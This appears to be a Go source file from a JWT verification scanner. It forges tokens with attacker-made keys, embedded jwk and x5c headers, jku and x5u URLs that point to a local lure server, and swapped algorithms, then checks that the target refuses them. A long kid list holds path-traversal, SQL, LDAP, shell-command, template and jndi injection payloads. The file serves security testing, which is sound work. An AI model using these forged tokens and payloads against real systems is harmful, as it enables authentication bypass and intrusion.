package attack

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"time"
)

// attacker has a key pair of their own, and a certificate that they made themselves.
type attacker struct {
	alg     string
	private crypto.Signer
	cert    []byte // DER
}

// attackers have one key of each kind.
func attackers() ([]attacker, error) {
	ec, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	rs, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, err
	}
	_, ed, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, err
	}
	out := []attacker{{alg: "ES256", private: ec}, {alg: "RS256", private: rs}, {alg: "PS256", private: rs}, {alg: "EdDSA", private: ed}}
	for i, a := range out {
		template := x509.Certificate{
			SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"},
			NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), DNSNames: []string{"localhost"},
		}
		if out[i].cert, err = x509.CreateCertificate(rand.Reader, &template, &template, a.private.Public(), a.private); err != nil {
			return nil, err
		}
	}
	return out, nil
}

// sign is a token of the attacker's.
func (a attacker) sign(header object, payload []byte) (string, error) {
	input := b64(header.with("alg", a.alg).bytes()) + "." + b64(payload)
	sig, err := signInput(a.alg, a.private, input)
	return input + "." + b64(sig), err
}

// jwk is the attacker's public key under that kid.
func (a attacker) jwk(kid string) raw { return jwkOf(a.private.Public(), kid, a.alg).bytes() }

// lure is a server of the attacker's on this machine: who follows a URL of a token comes
// there, and is counted.
type lure struct {
	srv   *http.Server
	addr  string
	came  atomic.Int64
	ended chan struct{}
}

// setLure serves set at every path, and at those that end in .pem the certificate.
func setLure(set []byte, cert []byte) (*lure, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("a place that tokens point to: %w", err)
	}
	l := &lure{addr: ln.Addr().String(), ended: make(chan struct{})}
	l.srv = &http.Server{ReadHeaderTimeout: time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".pem") {
			_ = pem.Encode(w, &pem.Block{Type: "CERTIFICATE", Bytes: cert}) // who went away has come
			return
		}
		w.Header().Set("Content-Type", "application/jwk-set+json")
		_, _ = w.Write(set)
	}), ConnState: func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			l.came.Add(1)
		}
	}}
	go func() {
		defer close(l.ended)
		_ = l.srv.Serve(ln) // until it is closed
	}()
	return l, nil
}

func (l *lure) close() {
	_ = l.srv.Close()
	<-l.ended
}

// nobodyCame notes whether a URL of a token was followed, which the answer need not show.
func (l *lure) nobodyCame(ctx context.Context, y *Tally) {
	pause(ctx, 100*time.Millisecond) // one that is fetched in the background
	n := l.came.Load()
	y.Note("whether a URL in a token is followed", fmt.Sprintf("%d connections", n), "0 connections", n == 0)
}

// brought has tokens name the key that they are to be verified with.
func brought(ctx context.Context, t *Target, y *Tally) error {
	f, err := begin(ctx, t, y)
	if f == nil {
		return err
	}
	all, err := t.foes()
	if err != nil {
		return err
	}
	var forged []variation
	for _, a := range all {
		for kid, header := range sorted(map[string]object{"the known kid": f.header, "a kid of its own": f.header.with("kid", "attacker"), "no kid": f.header.without("kid")}) {
			for what, header := range sorted(a.bringing(header)) {
				token, err := a.sign(header, f.body)
				if err != nil {
					return err
				}
				forged = append(forged, variation{fmt.Sprintf("%s, %s, %s", what, a.alg, kid), token})
			}
		}
	}
	secret := []byte("a secret of the attacker's, long enough")
	for kid, header := range sorted(map[string]object{"the known kid": f.header, "no kid": f.header.without("kid")}) {
		header = header.with("alg", "HS256").with("jwk", raw(jwkOf(secret, header.text("kid"), "HS256").bytes()))
		forged = append(forged, variation{"jwk with a secret, " + kid, keyed(sha256.New, header.bytes(), f.body, secret)})
	}
	if err := f.refused(ctx, forged); err != nil {
		return err
	}
	if !t.Nodes[0].Loopback() {
		y.Say("jku and x5u were not tried: they would have the target fetch something, and it is not on this machine")
		return nil
	}
	return f.pointing(ctx, all)
}

// bringing are the headers that bring a's key along.
func (a attacker) bringing(header object) map[string]object {
	kid := header.text("kid")
	sum1, sum256 := sha1.Sum(a.cert), sha256.Sum256(a.cert)
	chain := []string{base64.StdEncoding.EncodeToString(a.cert)}
	jwk := a.jwk(kid)
	return map[string]object{
		"jwk":                     header.with("jwk", jwk),
		"jwk as text":             header.with("jwk", string(jwk)),
		"jwks":                    header.with("jwks", raw(`{"keys":[`+string(jwk)+`]}`)),
		"x5c":                     header.with("x5c", chain),
		"x5c and its thumbprints": header.with("x5c", chain).with("x5t", b64(sum1[:])).with("x5t#S256", b64(sum256[:])),
		"x5c that is no list":     header.with("x5c", chain[0]),
		"jwk in x5c's place":      header.with("x5c", jwk),
	}
}

// pointing has tokens say where the key is.
func (f *forge) pointing(ctx context.Context, all []attacker) error {
	var keys []json.RawMessage
	for _, a := range all {
		keys = append(keys, a.jwk(f.kid), a.jwk("attacker"))
	}
	set, err := json.Marshal(map[string]any{"keys": keys})
	if err != nil {
		return err
	}
	l, err := setLure(set, all[1].cert)
	if err != nil {
		return err
	}
	defer l.close()
	issuer := strings.TrimPrefix(strings.TrimPrefix(f.claim.text("iss"), "https://"), "http://")
	var forged []variation
	for _, a := range all {
		for _, base := range []object{f.header, f.header.with("kid", "attacker")} {
			for _, header := range []object{
				base.with("jku", "http://"+l.addr+"/jwks.json"),
				base.with("jku", "http://"+l.addr+"/.well-known/jwks.json"),
				base.with("jku", "http://"+issuer+"@"+l.addr+"/jwks.json"),
				base.with("jku", "http://"+l.addr+"/jwks.json#"+f.claim.text("iss")),
				base.with("jku", "//"+l.addr+"/jwks.json"),
				base.with("jku", []string{"http://" + l.addr + "/jwks.json"}),
				base.with("x5u", "http://"+l.addr+"/cert.pem"),
				base.with("jwks_uri", "http://"+l.addr+"/jwks.json"),
				base.with("kid", "http://"+l.addr+"/jwks.json"),
				base.with("iss", "http://"+l.addr),
			} {
				token, err := a.sign(header, f.body)
				if err != nil {
					return err
				}
				forged = append(forged, variation{fmt.Sprintf("%s, a URL in %.150s", a.alg, header.bytes()), token})
			}
		}
		// Discovery: the issuer says where its keys are.
		token, err := a.sign(f.header.with("kid", "attacker"), f.claim.with("iss", "http://"+l.addr).bytes())
		if err != nil {
			return err
		}
		forged = append(forged, variation{a.alg + ", a URL in iss", token})
	}
	if err := f.refused(ctx, forged); err != nil {
		return err
	}
	l.nobodyCame(ctx, f.y)
	return nil
}

// kidInjected has the kid lead to a key whose bytes are known: an empty file, the result
// of a query, a property that every object has. One that is executed and takes long has no
// answer in time.
func kidInjected(ctx context.Context, t *Target, y *Tally) error {
	f, err := begin(ctx, t, y)
	if f == nil {
		return err
	}
	known := []struct {
		kid     string
		secrets []string
	}{
		{"../../../../../../../../dev/null", []string{"", "\x00"}},
		{"/dev/null", []string{"", "\x00"}},
		{"file:///dev/null", []string{""}},
		{"..\\..\\..\\..\\..\\..\\NUL", []string{""}},
		{"%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fdev%2fnull", []string{""}},
		{"....//....//....//....//dev/null", []string{""}},
		{"../../../../../../../../dev/null\x00.pem", []string{""}},
		{"/proc/sys/kernel/randomize_va_space", []string{"2", "2\n"}},
		{"../../../../../../../../proc/sys/kernel/randomize_va_space", []string{"2", "2\n"}},
		{"/proc/sys/kernel/ostype", []string{"Linux", "Linux\n"}},
		{"/", []string{""}},
		{".", []string{""}},
		{"", []string{""}},
		{f.kid + "/../../../../../../../../dev/null", []string{""}},
		{"x' UNION SELECT 'secret", []string{"secret"}},
		{"x' UNION SELECT 'secret' -- ", []string{"secret"}},
		{"x\" UNION SELECT \"secret\" -- ", []string{"secret"}},
		{"x' UNION SELECT NULL -- ", []string{"", "null"}},
		{"' OR '1'='1", []string{"", "1"}},
		{f.kid + "' OR '1'='1", []string{""}},
		{"1 OR 1=1", []string{""}},
		{"x'; SELECT pg_sleep(20) -- ", []string{""}},
		{"x' AND SLEEP(20) -- ", []string{""}},
		{"x' OR RANDOMBLOB(2000000000) -- ", []string{""}},
		{"*", []string{""}},
		{"*)(uid=*))(|(uid=*", []string{""}},
		{"| sleep 20", []string{""}},
		{"; sleep 20;", []string{""}},
		{"$(sleep 20)", []string{""}},
		{"`sleep 20`", []string{""}},
		{"{{7*7}}", []string{"49", ""}},
		{"${jndi:ldap://127.0.0.1:1/x}", []string{""}},
		{"__proto__", []string{"", "[object Object]", "undefined", "{}"}},
		{"constructor", []string{"", "function Object() { [native code] }", "undefined"}},
		{"toString", []string{"", "function toString() { [native code] }", "undefined"}},
		{"hasOwnProperty", []string{"", "function hasOwnProperty() { [native code] }"}},
		{"length", []string{"0", "1", "2"}},
		{"0", []string{"", "undefined"}},
		{"-1", []string{"", "undefined"}},
		{strings.Repeat("../", 300) + "dev/null", []string{""}},
	}
	var all []variation
	for _, k := range known {
		for _, secret := range k.secrets {
			for name, h := range sorted(hashes()) {
				header := f.header.with("kid", k.kid).with("alg", name)
				all = append(all, variation{fmt.Sprintf("kid %.60q, %s with %q", k.kid, name, secret), keyed(h, header.bytes(), f.body, []byte(secret))})
			}
		}
		header := f.header.with("kid", k.kid)
		all = append(all, variation{fmt.Sprintf("kid %.60q and the signature that it had", k.kid), f.under(header.bytes())})
	}
	return f.refused(ctx, all)
}

// foreignKey signs well, but not with the target's key.
func foreignKey(ctx context.Context, t *Target, y *Tally) error {
	f, err := begin(ctx, t, y)
	if f == nil {
		return err
	}
	all, err := t.foes()
	if err != nil {
		return err
	}
	var forged []variation
	for _, a := range all {
		for who, payload := range sorted(f.claimants()) {
			for what, header := range sorted(map[string]object{"the known kid": f.header, "no kid": f.header.without("kid"), "a kid of its own": f.header.with("kid", "attacker")}) {
				token, err := a.sign(header, payload)
				if err != nil {
					return err
				}
				forged = append(forged, variation{fmt.Sprintf("%s with a key of the attacker's, %s, %s", a.alg, what, who), token})
				// The known algorithm's name over another's signature.
				j, err := parseJWS(token)
				if err != nil {
					return err
				}
				forged = append(forged, variation{fmt.Sprintf("%s said, %s signed, %s, %s", f.alg, a.alg, what, who), compact(header.bytes(), payload, j.sig)})
			}
		}
	}
	return f.refused(ctx, forged)
}
